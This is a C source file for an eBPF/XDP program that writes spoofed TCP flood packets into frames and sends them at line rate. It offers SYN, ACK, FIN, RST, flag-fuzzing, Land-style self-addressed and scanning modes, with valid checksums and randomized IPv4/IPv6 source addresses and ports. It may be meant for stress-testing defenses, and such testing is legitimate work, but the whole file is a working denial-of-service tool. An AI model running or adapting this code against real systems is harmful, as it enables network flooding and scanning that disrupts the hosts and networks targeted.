/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Writes a packet of a flood over the frame it is given, and hands it to the
 * device. A live frame comes back with the bytes of its last use, so all of it
 * is written, checksums too: a host that is attacked must take it seriously.
 */
#include <linux/bpf.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

#include "flood.h"
#include "tcp.h"
#include "wire.h"

char _license[] SEC("license") = "GPL";

const volatile struct flood_plan plan;
u64 next; /* the number of the next frame; one thread sends */

struct ends {
	u32 from[4], to[4]; /* as on the wire, IPv4 in the last */
	u16 from_port, to_port;
	u32 seq, ack;
	u8 flags;
};

INLINE u32 scatter(u32 x)
{
	x ^= x >> 16;
	x *= 0x7feb352dU;
	x ^= x >> 15;
	x *= 0x846ca68bU;
	return x ^ x >> 16;
}

/* Another number below FLOOD_SOURCES for each below it: steps that can be undone, within so many bits. */
INLINE u32 scatter_source(u32 x)
{
	const u32 mask = FLOOD_SOURCES - 1;

	x ^= x >> 15;
	x = x * 0x2c1b3c6dU & mask;
	x ^= x >> 12;
	x = x * 0x297a2d39U & mask;
	return x ^ x >> 15;
}

/* 128.0.0.0/2, or as many /48 of 2001:db8::/32: nothing in them is impossible. */
INLINE void put_source(u32 from[4], u32 id, int v6)
{
	from[0] = v6 ? bpf_htonl(0x20010db8) : 0;
	from[1] = v6 ? bpf_htonl(id >> 14 << 16) : 0;
	from[2] = 0;
	from[3] = bpf_htonl(v6 ? id : 0x80000000 | id);
}

/* The nth sender. Each pair of address and port comes once before any comes again. */
INLINE void put_sender(struct ends *ends, u64 n, int v6)
{
	u32 source = (u32)(n % plan.sources), round = (u32)(n / plan.sources);
	u32 id = scatter_source(source);

	put_source(ends->from, id, v6);
	ends->from_port = plan.source_port ?: (u16)(1024 + (scatter(id) + round) % 64512);
	ends->seq = scatter((u32)n);
}

/* Addresses that no host has, or not this one; instead of the last stands the target's own. */
static const struct {
	u32 v4, v6[4];
} odd[8] = {
	{ 0x00000000, { 0, 0, 0, 0 } },
	{ 0x00000001, { 0, 0, 0, 1 } },
	{ 0x7f000001, { 0, 0, 0xffff, 0x7f000001 } },
	{ 0xa9fe0101, { 0xfe800000, 0, 0, 1 } },
	{ 0xe0000001, { 0xff020000, 0, 0, 1 } },
	{ 0xf0000001, { 0x01000000, 0, 0, 1 } },
	{ 0xffffffff, { 0, 0, 0xffff, 0 } },
};

INLINE void put_odd(u32 to[4], const u32 target[4], u64 n, int v6)
{
	n &= 7;
	for (u32 i = 0; i < 4; i++)
		to[i] = n == 7 ? target[i] : bpf_htonl(v6 ? odd[n].v6[i] : i < 3 ? 0 : odd[n].v4);
}

INLINE void make_odd(struct ends *ends, u64 n, int v6)
{
	u32 target[4] = { ends->to[0], ends->to[1], ends->to[2], ends->to[3] };

	put_odd(ends->from, target, n, v6);
	put_odd(ends->to, target, n & 64 ? n >> 3 : 7, v6);
	ends->from_port = n & 128 ? 0 : ends->to_port;
	if (n & 256)
		ends->to_port = 0;
}

INLINE void make_ends(struct ends *ends, u64 n, int v6)
{
	u32 half = plan.mode == FLOOD_PAIR;

	put_sender(ends, n >> half, v6);
	for (u32 i = 0; i < 4; i++)
		ends->to[i] = plan.to[v6][i];
	ends->to_port = plan.port;
	ends->ack = scatter(~(u32)n);
	switch (plan.mode) {
	case FLOOD_PAIR:
		ends->flags = n & 1 ? TCP_ACK : TCP_SYN;
		ends->seq += (u32)n & 1;
		break;
	case FLOOD_SYN_ACK:
		ends->flags = TCP_SYN | TCP_ACK;
		break;
	case FLOOD_ACK:
		ends->flags = TCP_ACK;
		break;
	case FLOOD_FIN:
		ends->flags = TCP_FIN | TCP_ACK;
		break;
	case FLOOD_RST:
		ends->flags = TCP_RST;
		break;
	case FLOOD_FLAGS:
		ends->flags = (u8)n;
		break;
	case FLOOD_ODD:
		ends->flags = TCP_SYN;
		make_odd(ends, n, v6);
		break;
	case FLOOD_SCAN:
		ends->flags = TCP_SYN;
		ends->to[3] = bpf_htonl(bpf_ntohl(ends->to[3]) + (u32)(n >> 16));
		ends->to_port = (u16)n;
		break;
	default:
		ends->flags = TCP_SYN;
	}
	if (!(ends->flags & TCP_ACK))
		ends->ack = 0;
}

INLINE u16 fold(u64 sum)
{
	sum = (sum >> 32) + (sum & 0xffffffff);
	sum = (sum >> 32) + (sum & 0xffffffff);
	sum = (sum >> 16) + (sum & 0xffff);
	sum = (sum >> 16) + (sum & 0xffff);
	return (u16)~((sum >> 16) + (sum & 0xffff));
}

/* Of words at any place, in wire order, as the result is. */
INLINE u64 sum_words(const void *data, u32 words)
{
	const u32 *word = data;
	u64 sum = 0;

	for (u32 i = 0; i < words; i++)
		sum += word[i];
	return sum;
}

INLINE void put_tcp(struct wire_tcp *tcp, const struct ends *ends, u64 addresses)
{
	*tcp = (struct wire_tcp){
		.from = bpf_htons(ends->from_port),
		.to = bpf_htons(ends->to_port),
		.seq = bpf_htonl(ends->seq),
		.ack = bpf_htonl(ends->ack),
		.words = sizeof(*tcp) / 4 << 4,
		.flags = ends->flags,
		.window = bpf_htons(64240),
	};
	tcp->checksum = fold(addresses + bpf_htons(PROTO_TCP) + bpf_htons(sizeof(*tcp)) +
			     sum_words(tcp, sizeof(*tcp) / 4));
}

INLINE void put_ether(struct wire_ether *ether, u16 type)
{
	for (u32 i = 0; i < 6; i++) {
		ether->to[i] = plan.to_mac[i];
		ether->from[i] = plan.from_mac[i];
	}
	ether->type = bpf_htons(type);
}

INLINE void put_v4(void *frame, const struct ends *ends)
{
	struct wire_ipv4 *ip = frame + sizeof(struct wire_ether);
	struct wire_tcp *tcp = (void *)(ip + 1);

	put_ether(frame, ETHER_IPV4);
	*ip = (struct wire_ipv4){
		.version_words = 4 << 4 | sizeof(*ip) / 4,
		.total = bpf_htons(sizeof(*ip) + sizeof(*tcp)),
		.ttl = 64,
		.protocol = PROTO_TCP,
		.from = ends->from[3],
		.to = ends->to[3],
	};
	ip->checksum = fold(sum_words(ip, sizeof(*ip) / 4));
	put_tcp(tcp, ends, (u64)ends->from[3] + ends->to[3]);
}

INLINE void put_v6(void *frame, const struct ends *ends)
{
	struct wire_ipv6 *ip = frame + sizeof(struct wire_ether);
	struct wire_tcp *tcp = (void *)(ip + 1);

	put_ether(frame, ETHER_IPV6);
	*ip = (struct wire_ipv6){
		.version = 6 << 4,
		.payload = bpf_htons(sizeof(*tcp)),
		.next = PROTO_TCP,
		.hops = 64,
	};
	__builtin_memcpy(ip->from, ends->from, sizeof(ip->from));
	__builtin_memcpy(ip->to, ends->to, sizeof(ip->to));
	put_tcp(tcp, ends, sum_words(ends->from, 4) + sum_words(ends->to, 4));
}

SEC("xdp")
int flood(struct xdp_md *ctx)
{
	void *frame = (void *)(long)ctx->data;
	struct ends ends = {};
	u64 n = next;
	int v6 = plan.families == FLOOD_V6;

	if (frame + FLOOD_FRAME > (void *)(long)ctx->data_end)
		return XDP_ABORTED;
	next = n + 1;
	if (plan.families == (FLOOD_V4 | FLOOD_V6)) {
		v6 = (int)(n & 1);
		n >>= 1;
	}
	if (v6) {
		make_ends(&ends, n, 1);
		put_v6(frame, &ends);
	} else {
		make_ends(&ends, n, 0);
		put_v4(frame, &ends);
	}
	return (int)bpf_redirect(plan.ifindex, 0);
}
